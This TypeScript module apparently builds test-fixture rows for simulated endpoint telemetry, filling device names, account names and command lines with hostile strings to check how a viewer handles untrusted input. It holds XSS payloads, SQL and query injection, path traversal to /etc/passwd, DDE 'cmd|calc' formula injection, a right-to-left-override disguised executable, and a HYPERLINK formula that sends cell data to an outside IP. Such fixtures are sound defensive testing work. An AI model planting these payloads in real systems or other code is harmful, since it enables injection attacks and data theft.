/** Rows as an attacker would write them: names, paths and command lines that try to be more than text. */
import { guidOf, hexOf } from '../chance';
import { type Device, deviceNamed } from '../company/devices';
import { type Account, account } from '../company/people';
import { program } from '../programs/program';
import * as rmm from '../programs/rmm';
import * as windows from '../programs/windows';
import type { Story } from '../story/story';

const BIDI = '\u202e';
const ZERO_WIDTH = '\u200b';

/** Devices that called themselves so; the last also brought an id of its own. */
const hostileDevices: Device[] = [
  hostile('<img src=x onerror=alert(document.domain)>', hexOf('sha1', 'hostile', 1)),
  hostile('=HYPERLINK("http://203.0.113.66/?"&A1,"open")', hexOf('sha1', 'hostile', 2)),
  hostile("x' or 1=1 | where DeviceName has '\"; DROP TABLE DeviceInfo; --", hexOf('sha1', 'hostile', 3)),
  hostile('..\\..\\windows\\system32', '../../../etc/passwd'),
];

function hostile(name: string, id: string): Device {
  return { ...deviceNamed('ws-log-001'), id, name, ip: '10.30.105.250' };
}

const somebody: Account = { ...account('ben.evil'), name: "<b>ben</b>\t\r\n+cmd|' /C calc'!A0" };

/** What is said to be a picture: the direction of writing is turned round before “gpj.exe”. */
const turned = program(
  `C:\\Users\\{user}\\Pictures\\holiday_${BIDI}gpj.exe`,
  'AnyDesk Software GmbH',
  `Any${ZERO_WIDTH}Desk`,
  '8.0.11',
  '-2+3+cmd|calc',
  {
    certificate: null,
  },
);
const commands = [
  '"{path}" "</script><script>alert(1)</script>" \u001b[31mred\u001b[0m \u0007',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  `"{path}" --${'A'.repeat(9000)}`,
  '\';!--"<XSS>=&{()}{{7*7}}#{7*7}\\u0000 %00 %2e%2e%2f',
  `"{path}" \u2066\u2069\u202e drow \u202c \ufeff line1\nline2\r\nline3\ttab`,
];

export function hostileRows(story: Story): void {
  for (const [n, device] of hostileDevices.entries()) {
    const machine = story.on(device);
    machine.story.add('DeviceInfo', machine, story.ago('9h'), {
      OSPlatform: '<i>Windows11</i>',
      OnboardingStatus: 'Onboarded',
      HardwareUuid: guidOf(device.id),
    });
    const explorer = machine.signIn(somebody, story.at(1, n < 2 ? '04:17' : '06:52'));
    for (const [i, command] of commands.entries()) {
      explorer
        .start([turned, rmm.anydeskDownloads, rmm.vncViewer][(i + n) % 3] ?? turned, { after: `${i + 1}m`, command })
        .connect({ host: `boot.net.anydesk.com/<svg onload=alert(${n})>`, ip: '203.0.113.66' });
    }
    explorer.start(windows.powershell, { after: '9m', command: '"{path}" -c "{\\"a\\": [1, 2}"' });
  }
}
